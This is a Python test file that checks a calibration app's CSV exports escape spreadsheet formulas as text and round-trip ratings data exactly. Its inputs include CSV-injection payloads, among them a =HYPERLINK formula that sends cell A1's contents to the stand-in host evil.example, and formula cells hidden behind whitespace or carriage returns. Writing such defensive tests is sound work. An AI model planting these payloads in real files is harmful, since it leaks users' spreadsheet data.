"""Every CSV of the calibration app writes formulas as text (OWASP "CSV Injection") and keeps numbers as numbers;
ratings.csv, the one with a reader, round-trips byte for byte through `ratings_csv_parse`."""
from __future__ import annotations

import csv
import io

from calibration.adjudication.exporting import GOLD_FIELDS, GoldLabelSet, gold_labels_csv
from calibration.cycles.ratings import Rating, ReportInputs, UnitInfo
from calibration.reports.build import calibration_report_build
from calibration.reports.render import report_csv
from calibration.reports.snapshots import ratings_csv, ratings_csv_parse
from tests.evaluations.test_spreadsheet import dangerous

EVIL_TRADITION = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def inputs() -> ReportInputs:
    """Two raters who disagree systematically (a negative α and a negative mean signed difference), with
    facet values and rater names that a spreadsheet would run."""
    units = [UnitInfo(str(i), "-lexical", "@textual", EVIL_TRADITION if i % 2 else "+cmd", "'=hard")
             for i in range(1, 9)]
    ratings = []
    for i, unit in enumerate(units):
        ratings.append(Rating(unit, "=rater|calc", i % 4))
        ratings.append(Rating(unit, "-rater", 3 - i % 4))
    judge = {u.key: 0 for u in units}
    gold = {units[0].key: 3}
    return ReportInputs(units=units, ratings=ratings, judge=judge, gold=gold, rater_key={})


def test_ratings_csv_writes_formulas_as_text_and_reads_back_the_same_inputs() -> None:
    given = inputs()
    data = ratings_csv(given)
    assert not [cell for cell in cells(data) if dangerous(cell)]
    assert f"'{EVIL_TRADITION}".replace('"', '""') in data.decode() and "'-rater" in data.decode()
    assert "''=hard" in data.decode()  # an apostrophe the reader would strip is escaped too

    parsed = ratings_csv_parse(data)
    assert sorted(parsed.units, key=lambda u: u.key) == sorted(given.units, key=lambda u: u.key)
    assert sorted((r.unit.key, r.rater, r.score) for r in parsed.ratings) == \
        sorted((r.unit.key, r.rater, r.score) for r in given.ratings)
    assert parsed.judge == given.judge and parsed.gold == given.gold
    again = ReportInputs(units=parsed.units, ratings=parsed.ratings, judge=parsed.judge, gold=parsed.gold,
                         rater_key={})
    assert ratings_csv(again) == data  # byte for byte, so the input hash is reproducible from the bundle


def test_the_report_tables_write_formulas_as_text_and_negative_numbers_as_numbers() -> None:
    given = inputs()
    report = calibration_report_build(given.ratings, judge=given.judge, gold=given.gold, units=given.units,
                                      n_resamples=0, seed=1)
    data = report_csv(report).encode()
    written = cells(data)
    assert not [cell for cell in written if dangerous(cell)]
    assert f"'{EVIL_TRADITION}" in written and "'+cmd" in written and "'-lexical" in written
    negatives = [cell for cell in written if cell.startswith("-")]
    assert negatives and all(float(cell) < 0 for cell in negatives)  # e.g. α and the mean signed difference


def test_gold_labels_csv_writes_formulas_as_text() -> None:
    row = dict.fromkeys(GOLD_FIELDS, "")
    row.update(cycle="=1+1", case="@SUM(A1)", model="+evil/model", run_label="-r1", gold_score=2,
               reason="=HYPERLINK(\"http://evil.example\")", decision_id=7, adjudicated_at="2026-11-23T10:00:00Z")
    data = gold_labels_csv(GoldLabelSet(cycle="=1+1", rubric_version="1", rows=[row]))
    written = cells(data)
    assert not [cell for cell in written if dangerous(cell)]
    assert "'=1+1" in written and "'@SUM(A1)" in written and "2" in written and "7" in written


def test_formula_after_whitespace_in_ratings_report_and_gold_csvs() -> None:
    """Cells that start with whitespace before = + - @, or with a carriage return, are text in every calibration
    CSV; no row of what a spreadsheet reads starts with a formula; ratings.csv still round-trips byte for byte."""
    from tests.evaluations.test_spreadsheet import spreadsheet_rows

    units = [UnitInfo(str(i), " =lexical", "\n@textual", "\r=1+1" if i % 2 else "  +cmd", "\t =hard")
             for i in range(1, 7)]
    ratings = [Rating(unit, name, (i + k) % 4) for i, unit in enumerate(units)
               for k, name in enumerate(("\r\n=rater|calc", " -rater"))]
    given = ReportInputs(units=units, ratings=ratings, judge={}, gold={}, rater_key={})
    data = ratings_csv(given)
    report = calibration_report_build(given.ratings, judge={}, gold={}, units=units, n_resamples=0, seed=1)
    row = dict.fromkeys(GOLD_FIELDS, "")
    row.update(cycle="\r=1+1", case=" @SUM(A1)", model="\n+evil/model", reason=" =HYPERLINK(\"x\")")
    gold = gold_labels_csv(GoldLabelSet(cycle="c", rubric_version="1", rows=[row]))
    for written in (data, report_csv(report).encode(), gold):
        rows = spreadsheet_rows(written)
        assert not [cell for r in rows for cell in r if dangerous(cell)]
        assert len({len(r) for r in rows}) == 1  # no row was cut in two by a bare carriage return
    parsed = ratings_csv_parse(data)
    assert sorted(u.tradition for u in parsed.units) == sorted(u.tradition for u in units)
    assert ratings_csv(ReportInputs(units=parsed.units, ratings=parsed.ratings, judge={}, gold={},
                                    rater_key={})) == data
